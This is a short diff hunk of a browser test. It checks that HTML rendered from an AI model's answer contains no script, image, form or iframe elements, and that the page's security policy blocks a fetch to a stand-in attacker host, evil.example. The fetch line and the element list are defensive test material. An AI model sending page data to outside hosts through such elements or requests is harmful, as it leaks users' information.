@@ -83,7 +83,7 @@ def test_what_an_obeying_model_writes_asks_nobody_and_links_nowhere_else(
         expect(answer.locator("img, script, form, iframe, svg[onload], style, base, meta, object, link")).to_have_count(
             0
         )
-        page.wait_for_load_state("networkidle")
+        page.evaluate("new Promise(drawn => requestAnimationFrame(() => requestAnimationFrame(drawn)))")
         blocked = page.evaluate(
             "fetch('https://evil.example/x').then(() => 'sent', () => 'blocked')"
         )  # should the page's own code ever be turned: the policy still holds it back
